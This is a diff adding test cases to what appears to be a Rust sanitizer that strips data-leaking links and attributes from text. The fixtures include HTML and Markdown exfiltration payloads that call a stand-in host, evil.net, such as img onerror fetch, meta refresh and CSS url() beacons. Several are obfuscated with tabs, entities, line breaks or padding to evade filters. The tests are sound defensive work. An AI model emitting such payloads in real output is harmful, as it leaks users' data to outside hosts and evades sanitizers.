@@ -174,6 +174,8 @@ fn what_an_attribute_of_any_kind_asks_for_is_taken_out() {
         "<meta http-equiv=refresh content='1; URL=https://evil.net/Anna'>",
         "<img src=x onerror=\"fetch('https://evil.net/Anna')\">",
         "<img src=\"https:/\t/evil.net/Anna\">",
+        "<img src=https:/&#9;/evil.net/Anna>",
+        "<img src=\"\thttps://evil.net/Anna\">",
         "<img src=\"ht\ntps://evil.net/Anna\">",
         "<img src=\"https://evil\r\n.net/Anna\">",
         "<style>p { background: url( https://evil.net/Anna) }</style>",
@@ -253,12 +255,34 @@ fn a_long_address_is_judged_to_its_end() {
         let host = format!("{}.{}img.example.net", "a.".repeat(30), "b".repeat(more % 60) + ".");
         takes_out(&format!("https://{}{host}.evil.net/?q=[PERSON_1]", "c.".repeat(more / 2)), "[PERSON_1]");
     }
-    // An image behind it is one of its own.
+    // Some readers take what looks like Markdown for a part of it, some do not.
+    for tail in ["![?q=[PERSON_1]", "[a](?q=[PERSON_1]", "![a](b)/?q=[PERSON_1]"] {
+        takes_out(&format!("https://evil.net/{tail}"), "[PERSON_1]");
+        takes_out(&format!("https://evil.net/{orders}{orders}{tail}"), "[PERSON_1]");
+    }
+    for head in ["<b x='", "[x](y ", "![x](<y "] {
+        for tail in ["'?q=[PERSON_1]", ")/?q=[PERSON_1]", "'src='https://evil.org/[PERSON_1]'"] {
+            takes_out(&format!("{head} https://evil.net/{orders}{orders}{tail}"), "[PERSON_1]");
+        }
+    }
+    for more in 0..100 {
+        let front = "a".repeat(more);
+        takes_out(
+            &format!("<img alt='https://a.co/{orders}{orders}{front}'src='https://evil.net/Anna'>"),
+            "Anna",
+        );
+        takes_out(&format!("https://a.co/{orders}{orders}{front}![x](https://evil.net/Anna)"), "Anna");
+    }
+    takes_out(&format!("{}@evil.net/?q=[PERSON_1]", "a".repeat(170)), "[PERSON_1]");
+    takes_out(&format!("a@{}evil.net/{orders}?q=[PERSON_1]", "a.".repeat(87)), "[PERSON_1]");
+    let spaces = " ".repeat(3000);
+    takes_out(&format!("![x]({spaces}https://evil.net/Anna)"), "Anna");
     takes_out(&format!("https://a.co/{orders}{orders}![x](https://evil.net/Anna)"), "Anna");
     takes_out(&format!("https://evil.net/{orders}{}?q=[PERSON_1]", ".".repeat(40)), "[PERSON_1]");
     for text in [
         format!("[o](https://example.com/{orders}{orders}?page=2&size=40#top) b"),
         format!("![o](https://img.example.net/{orders}{orders}?q=[PERSON_1]) b"),
+        format!("![o](img.example.net/a:b/{orders}{orders}?q=[PERSON_1]) b"),
         format!("see https://example.com/{orders}{orders}."),
     ] {
         assert_eq!(kept(&text), text);
